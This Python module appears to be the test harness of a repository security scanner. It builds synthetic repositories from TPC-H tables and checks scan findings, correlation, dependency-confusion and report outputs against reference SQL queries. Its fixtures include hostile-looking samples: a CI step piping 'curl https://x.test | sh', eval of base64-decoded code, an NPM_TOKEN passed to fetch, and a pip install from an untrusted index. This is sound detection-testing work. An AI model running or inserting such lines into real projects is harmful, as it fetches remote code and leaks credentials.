"""The whole scan over repositories that hang on parts: by its key a part holds one kind of file, by its size its version."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from quarrylens.operators import analytics, assess, fixpoint, indicators, lookups, rules, scan, timeseries
from quarrylens.plans.catalog import LINES, ORDERS, WEIGHT, query
from quarrylens.sources import documents, formats, sinks, tables, workflows

_FLOW = "on: push\npermissions:\n  contents: read\njobs:\n  b:\n    steps:\n      - env:\n          X: curl https://x.test | sh\n        run: |\n          curl https://x.test | sh\n"
#: (files, what is found: line, rule, severity, detector, condition on the part).
KINDS: list[tuple[list[tuple[str, str | None]], list[tuple[int | None, str, str, str, str]]]] = [
    ([("src/ok.js", "const a = 1;\n// eval\n")], []),
    ([("src/a.js", "let b;\neval(atob('aGk='));"), ("docs/a.md", "see 10.2.3.4\n")], [(2, "EVAL_ATOB", "critical", "text", "true"), (1, "INTERNAL_PRIVATE_IP", "medium", "disclosure", "true")]),
    ([(".github/workflows/ci.yml", _FLOW), (".github/workflows/odd.yml", "a: [1, 2\nb: 3")], [(10, "GHA_CURL_PIPE_EXEC", "high", "workflow", "true")]),
    ([("package-lock.json", '{"lockfileVersion": 3, "packages": {"node_modules/evil": {"version": "{v}.0.0", "integrity": "sha512-x"}}}')], [(None, "KNOWN_BAD_VERSION", "critical", "dependency", "p_size < 20")]),
    ([("a.py", "import base64\np = base64.b64decode(s)\nexec(p)\n"), ("pyproject.toml", "[project\n")], [(2, "DECODED_EXEC", "critical", "flow", "true")]),
    ([("lib/t.js", "const t = process.env.NPM_TOKEN;\nconst u = t;\nfetch(u);\n"), ("gone.bin", None)], [(1, "CREDENTIAL_SENT", "critical", "flow", "true")]),
]
PARTIAL = (2, 4, 5)
FOUND = " UNION ALL ".join(
    f"SELECT p_partkey, {'NULL' if line is None else line}::INT AS line, '{rule}' AS rule, '{severity}' AS severity, '{detector}' AS detector FROM part WHERE p_partkey % {len(KINDS)} = {k} AND {condition}"
    for k, (_, found) in enumerate(KINDS) for line, rule, severity, detector, condition in found
)


def repositories(spark: SparkSession, d: str) -> DataFrame:
    """target, path, text of the parts' files."""
    rows = spark.createDataFrame([(k, name, text) for k, (files, _) in enumerate(KINDS) for name, text in files], "k long, name string, text string")
    part = tables.spread(tables.table(spark, d, "part").select(F.format_string("part%d", "p_partkey").alias("target"), "p_size", (F.col("p_partkey") % len(KINDS)).alias("k")))
    # a handful of constants
    joined = part.join(F.broadcast(rows), "k")
    return joined.select("target", F.concat_ws("/", "target", "name").alias("path"), F.replace("text", F.lit("{v}"), F.col("p_size").cast("string")).alias("text"))


def _files(spark: SparkSession, d: str) -> DataFrame:
    """The repositories' files, made once, as each detector reads them."""
    return fixpoint.staged(repositories(spark, d), "repositories")


def _found(spark: SparkSession, files: DataFrame) -> DataFrame:
    bad = spark.createDataFrame([("npm", "evil", f"{v}.0.0") for v in range(1, 20)] + [("pypi", "evil", "30.0.0")], "ecosystem string, name string, version string")
    return scan.findings(files, bad)


@query(f"SELECT 'part' || p_partkey::VARCHAR AS target, coalesce(line, 0) AS line, rule, severity, detector FROM ({FOUND})")
def scan_findings(spark, d):
    """Findings of whole files have line 0."""
    return _found(spark, _files(spark, d)).select(F.substring_index("path", "/", 1).alias("target"), F.coalesce("line", F.lit(0)).alias("line"), "rule", "severity", "detector")


@query(f"""WITH f AS ({FOUND}), s AS (SELECT p_partkey, least(100, sum(w)) AS score, sum(n) AS n, max_by(severity, w) AS worst FROM (
    SELECT p_partkey, rule, max({WEIGHT}) AS w, count(*) AS n, max(severity) AS severity FROM f GROUP BY 1, 2) GROUP BY 1)
  SELECT 'part' || p.p_partkey::VARCHAR AS target, coalesce(score, 0)::BIGINT AS score, coalesce(n, 0)::BIGINT AS n_findings, coalesce(worst, 'none') AS worst, p.p_partkey % {len(KINDS)} IN {PARTIAL} AS partial FROM part p LEFT JOIN s USING (p_partkey)""")
def scan_report(spark, d):
    """Risk of every target over all detectors; unreadable workflows, manifests and files make it partial."""
    files = _files(spark, d)
    return scan.report(_found(spark, files), scan.not_read(files), files.select("target").distinct())


@query(f"""SELECT 'part' || p_partkey::VARCHAR || '/.github/workflows/ci.yml' AS path, e.line::BIGINT AS line, e.region FROM part, (VALUES
  (1, 'other'), (2, 'other'), (3, 'other'), (4, 'other'), (5, 'other'), (6, 'other'), (7, 'other'), (8, 'env'), (9, 'other'), (10, 'exec')) e(line, region) WHERE p_partkey % {len(KINDS)} = 2""")
def workflow_regions(spark, d):
    return workflows.regions(repositories(spark, d).where("path LIKE '%/ci.yml'")).select("path", "line", "region")


# ------------------------------------------------------------------ clusters in sequence, wildcards
#: seq, cluster, rule, required, needs_any, min_match, boost.
CLUSTERS = [(1, "A", "O-01", True, True, 2, 0.15), (1, "A", "O-02", False, True, 2, 0.15), (1, "A", "F-01", False, True, 2, 0.15), (2, "B", "O-02", False, False, 2, 0.3), (2, "B", "F-02", False, False, 2, 0.3), (3, "C", "O-01", False, False, 1, 0.1)]
_CORRELATED = f"""c(k, cluster, rule, required, needs_any, min_match, boost) AS (VALUES {', '.join(f"({k}, '{c}', '{r}', {q}, {n}, {m}, {b})" for k, c, r, q, n, m, b in CLUSTERS)}), f AS (SELECT * FROM {ORDERS}),
  met AS (SELECT target, cluster, count(DISTINCT rule) AS n_rules FROM f JOIN c USING (rule) GROUP BY 1, 2 HAVING count(DISTINCT rule) >= max(min_match) AND (bool_or(required) OR NOT bool_or(needs_any))),
  p AS (SELECT f.target, f.seq, c.k, cluster, n_rules, confidence, boost FROM f JOIN c USING (rule) JOIN met USING (target, cluster)),
  s AS (SELECT p.*, list_reduce([p.confidence::DOUBLE] || (SELECT list(q.boost::DOUBLE ORDER BY q.k) FROM p q WHERE q.target = p.target AND q.seq = p.seq AND q.k <= p.k), lambda a, b: least(1.0, a + b)) AS now FROM p)"""


def _correlate(spark: SparkSession, d: str) -> tuple[DataFrame, DataFrame]:
    clusters = spark.createDataFrame(CLUSTERS, "seq int, cluster string, rule string, required boolean, needs_any boolean, min_match int, boost double")
    return analytics.correlated(tables.order_findings(spark, d), clusters)


@query(f"WITH {_CORRELATED} SELECT target, cluster, n_rules::BIGINT AS n_rules, count(*)::BIGINT AS n_findings, round(least(1.0, avg(now)), 6) AS confidence FROM s GROUP BY 1, 2, 3")
def incidents_in_sequence(spark, d):
    return _correlate(spark, d)[1].select("target", "cluster", "n_rules", "n_findings", F.round("confidence", 6).alias("confidence"))


@query(f"WITH {_CORRELATED} SELECT target, seq, round(max_by(now, k), 6) AS confidence, max_by(cluster, k) AS correlation FROM s GROUP BY 1, 2")
def boosts_in_sequence(spark, d):
    return _correlate(spark, d)[0].where("correlation IS NOT NULL").select("target", "seq", F.round("confidence", 6).alias("confidence"), "correlation")


@query("""SELECT 'part' || p_partkey::VARCHAR || '/a.js' AS path, 2::INT AS line, i.value FROM part JOIN (VALUES ('evil-*7.test', 'evil-[0-9a-z_]+7[.]test'), ('EVIL-1*.test', 'evil-1[0-9a-z_]+[.]test'), ('*[x].*', '[0-9a-z_]+[[]x][.][0-9a-z_]+'), ('other*', 'other[0-9a-z_]+')) i(value, pattern)
  ON regexp_matches('get evil-' || p_partkey::VARCHAR || '.test, ab' || CASE WHEN p_size % 2 = 0 THEN '[x]' ELSE 'x' END || '.c', i.pattern)""")
def wildcard_indicators(spark, d):
    """Indicators with wildcards in code; the same line in prose counts for nothing."""
    line = F.concat(F.lit("get Evil-"), F.col("p_partkey").cast("string"), F.lit(".test, ab"), F.when(F.col("p_size") % 2 == 0, "[x]").otherwise("x"), F.lit(".c"))
    part = tables.table(spark, d, "part").select("p_partkey", F.concat_ws("\n", F.lit("first"), line).alias("text"))
    files = part.select(F.explode(F.array(*map(F.lit, ("a.js", "README.md")))).alias("name"), "p_partkey", "text").select(F.format_string("part%d/%s", "p_partkey", "name").alias("path"), "text")
    values = spark.createDataFrame([("evil-*7.test",), ("EVIL-1*.test",), ("*[x].*",), ("other*",), ("*",)], "value string")
    return indicators.wildcard_hits(rules.lines(files), values)


@query(f"""WITH feed AS (SELECT min(item_id) AS pos, w AS value FROM (SELECT item_id, split_part(text, ' ', 1) AS w FROM benchmark) WHERE length(w) > 3 GROUP BY 2)
  SELECT DISTINCT path, line::INT AS line, value, pos::BIGINT AS pos FROM {LINES} l JOIN feed ON contains(lower(l.content), lower(feed.value))""")
def feed_in_documents(spark, d):
    """The first words of benchmark items as a feed of literal values; of equal ones the first position counts."""
    words = tables.table(spark, d, "benchmark").select(F.col("item_id").alias("pos"), F.split("text", " ")[0].alias("value")).where("length(value) > 3")
    feed = words.select("pos", F.lit("ip").alias("type"), "value", F.lit("high").alias("severity"))
    return indicators.feed_hits(rules.lines(tables.files(spark, d)), feed).select("path", "line", "value", "pos")


# ------------------------------------------------------------------ packages by what the tables say of them
@query("""WITH p AS (SELECT p_partkey, 'lib' || p_partkey::VARCHAR AS package, p_size % 10 <> 0 AS there, CASE WHEN p_size % 7 = 0 THEN NULL ELSE max(l_shipdate) END AS published,
    CASE WHEN p_partkey % 9 = 0 THEN NULL ELSE sum(l_quantity)::BIGINT END AS downloads, CASE WHEN p_size % 11 = 0 THEN NULL ELSE p_size % 3 = 0 END AS scripts
    FROM part LEFT JOIN lineitem ON l_partkey = p_partkey GROUP BY p_partkey, p_size),
  q AS (SELECT *, (published > TIMESTAMP '1998-06-30' - INTERVAL 168 HOUR AND published IS NOT NULL)::INT + coalesce((downloads < 100)::INT, 0) + coalesce(scripts::INT, 0) AS flags FROM (SELECT p_partkey, package, there, published, downloads, scripts FROM p))
  SELECT package, CASE WHEN NOT there THEN 'DEPCONF_NOT_ON_REGISTRY' WHEN p_partkey % 10 = 5 THEN 'DEP_INTERNAL_NAME_PUBLIC' ELSE 'DEP_SUSPICIOUS_METADATA' END AS rule,
    CASE WHEN NOT there THEN 'high' WHEN p_partkey % 10 = 5 THEN CASE WHEN flags >= 2 THEN 'critical' ELSE 'high' END WHEN flags = 3 THEN 'high' ELSE 'medium' END AS severity
  FROM q WHERE NOT there OR p_partkey % 10 = 5 OR flags >= 2""")
def confusion_of_parts(spark, d):
    """Packages whose age, downloads and scripts come from the tables, each of them unknown for some."""
    sold = tables.table(spark, d, "lineitem").groupBy(F.col("l_partkey").alias("p_partkey")).agg(F.max("l_shipdate").alias("published"), F.sum("l_quantity").cast("long").alias("downloads"))
    part = tables.table(spark, d, "part").select("p_partkey", "p_size").join(sold, "p_partkey", "left")
    packages = part.select(
        F.format_string("lib%d", "p_partkey").alias("package"), (F.col("p_size") % 10 != 0).alias("exists"), F.when(F.col("p_size") % 7 != 0, F.col("published").cast("timestamp")).alias("published"),
        F.when(F.col("p_partkey") % 9 != 0, F.col("downloads")).alias("downloads"), F.when(F.col("p_size") % 11 != 0, F.col("p_size") % 3 == 0).alias("scripts"),
    )
    return assess.confusion(packages, "5$", (), "1998-06-30")


@query("""SELECT p_partkey, 'lib' || p_partkey::VARCHAR AS name, CASE p_size % 5 WHEN 0 THEN '1.2' WHEN 3 THEN '' ELSE p_size::VARCHAR END AS version FROM part WHERE p_size % 5 <> 4""")
def install_commands(spark, d):
    """Packages that commands of many shapes install; a fifth of the parts only list theirs."""
    shapes = ["sudo npm --prefix x install lib{n}@1.2", "cd a && npm i --save-dev lib{n}@{v}", "FOO=1 python3 -m pip install -U --index-url http://x.test lib{n}=={v} ./local", "env A=b yarn add -D lib{n}; ls other", "npm ls lib{n}"]
    command = F.element_at(F.array(*map(F.lit, shapes)), (F.col("p_size") % 5 + 1).cast("int"))
    filled = F.replace(F.replace(command, F.lit("{n}"), F.col("p_partkey").cast("string")), F.lit("{v}"), F.col("p_size").cast("string"))
    return tables.table(spark, d, "part").select("p_partkey", F.explode(assess.install_specs(filled)).alias("s")).select("p_partkey", "s.name", "s.version")


@query(f"""SELECT target, '[' || string_agg('{{"ruleId":"' || rule || '","level":"' || CASE severity WHEN 'critical' THEN 'error' WHEN 'high' THEN 'error' WHEN 'medium' THEN 'warning' ELSE 'note' END || '","message":{{"text":"' || description
    || '"}},"locations":[{{"physicalLocation":{{"artifactLocation":{{"uri":"' || file || '"}},"region":{{"startLine":' || greatest(1, line) || '}}}}}}]}}', ',' ORDER BY seq) || ']' AS results FROM {ORDERS} WHERE NOT (severity = 'info' AND seq % 3 = 0) GROUP BY 1""")
def report_sarif_locations(spark, d):
    """Results of each target with their places; suppressed findings are left out."""
    f = tables.order_findings(spark, d)
    return documents.sarif_located(f, (F.col("severity") == "info") & (F.col("seq") % 3 == 0)).select("target", "results")


@query(f"""SELECT '{{"target":' || target || ',"seq":' || seq || ',"rule":"' || rule || '","severity":"' || severity || '","file":"' || file || '"}}' AS value FROM {ORDERS}""")
def report_json_rows(spark, d):
    """One JSON object a finding."""
    return sinks.json_rows(tables.order_findings(spark, d).select("target", "seq", "rule", "severity", "file"))


# ------------------------------------------------------------------ readers over rows of the tables
@query("""SELECT CASE o_orderstatus WHEN 'F' THEN 'A' WHEN 'O' THEN 'M' ELSE 'R' END AS status, 'src/' || o_orderkey::VARCHAR || '.js' AS path FROM orders WHERE o_orderkey % 7 <> 0""")
def changed_files_of_orders(spark, d):
    """A name-status diff with a line for each order: added, changed and renamed files count, deleted ones don't."""
    own = F.format_string("src/%d.js", "o_orderkey")
    status = F.when(F.col("o_orderkey") % 7 == 0, "D").when(F.col("o_orderstatus") == "F", "A").when(F.col("o_orderstatus") == "O", "M").otherwise("R100\told.js")
    return formats.changed_paths(tables.table(spark, d, "orders").select(F.concat_ws("\t", status, own).alias("value")))


@query("""SELECT DISTINCT CASE p_size % 3 WHEN 0 THEN 'domain' WHEN 1 THEN 'package' ELSE 'hash' END AS type, 'v' || p_partkey::VARCHAR AS value, CASE WHEN p_size % 2 = 0 THEN 'high' END AS severity, true AS accepted FROM part WHERE p_size % 5 <> 0 AND p_partkey % 11 <> 0
  UNION ALL SELECT CASE p_size % 3 WHEN 0 THEN 'domain' WHEN 1 THEN 'package' ELSE 'hash' END, CASE WHEN p_partkey % 11 <> 0 THEN '' ELSE NULL END, CASE WHEN p_size % 2 = 0 THEN 'high' END, false FROM part WHERE p_size % 5 = 0 OR p_partkey % 11 = 0""")
def feed_of_parts(spark, d):
    """A payload for each part: entries with an empty value or none are kept apart."""
    kind = F.when(F.col("p_size") % 3 == 0, "domain").when(F.col("p_size") % 3 == 1, "package").otherwise("hash")
    value = F.when(F.col("p_partkey") % 11 == 0, F.lit(None)).when(F.col("p_size") % 5 == 0, "").otherwise(F.format_string("v%d", "p_partkey"))
    entry = F.struct(kind.alias("type"), value.alias("value"), F.when(F.col("p_size") % 2 == 0, "high").alias("severity"))
    payload = F.when(F.col("p_partkey") % 2 == 0, F.to_json(F.array(entry))).otherwise(F.to_json(F.struct(F.array(entry).alias("entries"))))
    rows = tables.table(spark, d, "part").select(payload.alias("value"))
    return formats.feed(rows).withColumn("accepted", F.lit(True)).union(formats.quarantined(rows).withColumn("accepted", F.lit(False)))


@query("""SELECT 's' || s_suppkey::VARCHAR || '/after.yml' AS consumer, 's' || s_suppkey::VARCHAR || '/ci.yml' AS producer FROM supplier WHERE s_suppkey % 3 <> 1""")
def workflow_graph_of_suppliers(spark, d):
    """A workflow for each supplier takes what its own CI made: by the same name, by another one, or by one that is known in the run only."""
    up = "name: CI {n}\non: push\njobs:\n  b:\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          name: out\n"
    down = "name: After\non:\n  workflow_run:\n    workflows: ['CI {n}']\njobs:\n  b:\n    steps:\n      - uses: actions/download-artifact@v4\n        with: { name: '{a}' }\n"
    name = F.element_at(F.array(F.lit("out"), F.lit("other"), F.lit("${{ inputs.name }}")), (F.col("s_suppkey") % 3 + 1).cast("int"))
    both = F.explode(F.array(F.struct(F.lit("ci.yml").alias("file"), F.lit(up).alias("text")), F.struct(F.lit("after.yml").alias("file"), F.replace(F.lit(down), F.lit("{a}"), name).alias("text"))))
    rows = tables.table(spark, d, "supplier").select("s_suppkey", both.alias("x"))
    files = rows.select(F.format_string("s%d/%s", "s_suppkey", "x.file").alias("path"), F.replace("x.text", F.lit("{n}"), F.col("s_suppkey").cast("string")).alias("text"))
    return workflows.consumers(workflows.steps(files))


@query("""WITH d AS (SELECT p_size AS target, 'lib' || (p_partkey * 7 % 143)::VARCHAR AS name, min(p_partkey) AS pos FROM part GROUP BY 1, 2),
  c AS (SELECT a.target, a.name, a.pos, b.name AS other, row_number() OVER (PARTITION BY a.target, a.name ORDER BY b.pos) AS rn FROM d a JOIN d b ON a.target = b.target AND a.name <> b.name AND damerau_levenshtein(a.name, b.name) = 1
    WHERE length(a.name) >= 4 AND length(b.name) >= 4 AND NOT ends_with(a.name, '1')),
  p AS (SELECT *, row_number() OVER (PARTITION BY target, least(name, other), greatest(name, other) ORDER BY pos) AS k FROM c WHERE rn = 1)
  SELECT target, name, other FROM p WHERE k = 1""")
def similar_dependencies(spark, d):
    """Names within one target, their order by key; names that end in 1 are known ones."""
    name = F.format_string("lib%d", F.col("p_partkey") * 7 % 143)
    deps = tables.table(spark, d, "part").select(F.col("p_size").alias("target"), F.col("p_partkey").alias("pos"), name.alias("name"))
    return lookups.similar_dependencies(deps, deps.where("name LIKE '%1'").select("name"))


@query("""WITH h AS (SELECT o_custkey AS key, o_orderkey AS i, o_orderkey % 61 AS v, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderkey DESC) AS back FROM orders),
  f AS (SELECT key, count(*) AS n, max_by(v, i)::DOUBLE AS current, regr_slope(v::DOUBLE, -back::DOUBLE) AS slope FROM h WHERE back <= 10 GROUP BY 1),
  a AS (SELECT *, floor(current + 5 * slope + 0.5)::BIGINT AS ahead FROM f WHERE n >= 3)
  SELECT key, CASE WHEN ahead > 60 AND current <= 60 THEN 'crosses' ELSE 'rises' END AS warning, ahead FROM a WHERE (ahead > 60 AND current <= 60) OR slope > 5""")
def forecast_warnings(spark, d):
    o = tables.table(spark, d, "orders").select(F.col("o_custkey").alias("key"), F.col("o_orderkey").alias("i"), (F.col("o_orderkey") % 61).alias("v"))
    return timeseries.forecast_warnings(o, "key", "i", "v")
